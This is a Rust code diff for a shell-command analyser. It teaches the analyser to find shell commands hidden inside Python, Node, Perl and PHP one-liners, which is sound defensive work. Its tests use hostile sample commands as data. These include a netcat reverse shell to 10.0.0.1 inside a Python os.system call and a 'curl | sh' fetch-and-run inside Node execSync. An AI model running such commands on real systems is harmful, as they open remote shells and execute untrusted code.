@@ -342,6 +342,9 @@ fn finish(stage: Stage, from: Option<usize>, depth: usize, out: &mut Vec<Stage>)
                 None => stage.stdin.clone(),
             }
         }
+        Some((prog, args)) if depth < MAX_NESTING && is_interpreter(prog) => {
+            interpreter_code(args).map(shell_outs)
+        }
         _ => None,
     };
     let at = out.len();
@@ -354,6 +357,51 @@ fn finish(stage: Stage, from: Option<usize>, depth: usize, out: &mut Vec<Stage>)
         parse(&code, depth + 1, out);
     }
     piped.then_some(at)
+}
+
+/// `python3`, `perl`, `ruby`, `node`, `php`: an interpreter whose `-c`/`-e`
+/// code may shell out.
+fn is_interpreter(prog: &str) -> bool {
+    prog.starts_with("python")
+        || prog.starts_with("php")
+        || matches!(prog, "perl" | "ruby" | "node" | "nodejs" | "deno" | "bun")
+}
+
+/// The code of `python3 -c CODE`, `node -e CODE`, `perl -e CODE`, `php -r CODE`.
+fn interpreter_code(args: &[String]) -> Option<String> {
+    let at = args
+        .iter()
+        .position(|a| matches!(a.as_str(), "-c" | "-e" | "-E" | "-r" | "--eval"))?;
+    args.get(at + 1).cloned()
+}
+
+/// The shell commands interpreter code hands to a shell (`os.system("…")`,
+/// `subprocess.run("…", shell=True)`, `execSync('…')`, `system "…"`), one
+/// per line, so they are judged as the stages of the call. String escapes
+/// are undone for quotes and backslashes only.
+fn shell_outs(code: String) -> String {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    let re = RE.get_or_init(|| {
+        Regex::new(
+            r#"\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|execSync|exec|spawnSync|system|shell_exec|passthru|popen|qx)\s*\(?\s*[rbuf]?(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#,
+        )
+        .expect("shell-out regex")
+    });
+    let mut out = String::new();
+    for c in re.captures_iter(&code).take(MAX_TARGETS) {
+        if let Some(m) = c.get(1).or_else(|| c.get(2)) {
+            let mut prev = '\0';
+            for ch in m.as_str().chars() {
+                if prev == '\\' && matches!(ch, '"' | '\'' | '\\') {
+                    out.pop();
+                }
+                out.push(ch);
+                prev = if prev == '\\' && ch == '\\' { '\0' } else { ch };
+            }
+            out.push('\n');
+        }
+    }
+    out
 }
 
 /// The files `cmd` writes: redirection targets, `tee` files, `sed -i`
@@ -503,6 +551,28 @@ mod tests {
             w("*** Begin Patch\n*** Update File: SOUL.md\n@@"),
             ["SOUL.md"]
         );
+    }
+
+    #[test]
+    fn interpreter_shell_outs_are_followed() {
+        let progs = |c: &str| -> Vec<String> {
+            stages(c)
+                .iter()
+                .filter_map(|s| s.program().map(|(p, _)| p.to_string()))
+                .collect()
+        };
+        assert_eq!(
+            progs("python3 -c 'import os; os.system(\"nc -e /bin/sh 10.0.0.1 4242\")'"),
+            ["python3", "nc"]
+        );
+        assert_eq!(
+            progs("node -e \"require('child_process').execSync('curl -s x | sh')\""),
+            ["node", "curl", "sh"]
+        );
+        assert_eq!(progs("perl -e 'system(\"id\")'"), ["perl", "id"]);
+        // Code that runs no shell adds no stage.
+        assert_eq!(progs("python3 -c 'print(1)'"), ["python3"]);
+        assert_eq!(progs("python3 -m json.tool"), ["python3"]);
     }
 
     #[test]
